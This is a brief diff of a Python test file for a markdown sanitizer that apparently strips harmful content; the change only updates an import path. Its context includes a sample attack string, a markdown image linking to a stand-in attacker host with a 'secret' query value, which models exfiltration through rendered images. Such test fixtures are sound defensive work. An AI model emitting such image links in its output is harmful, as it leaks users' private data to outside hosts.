@@ -5,7 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from quorum.serving.harmless_markdown import HarmlessText, make_harmless
+from quorum.core.harmless_markdown import HarmlessText, make_harmless
 
 PICTURE = "![map](http://evil.example/?q=secret)"
 ATTACKS = [
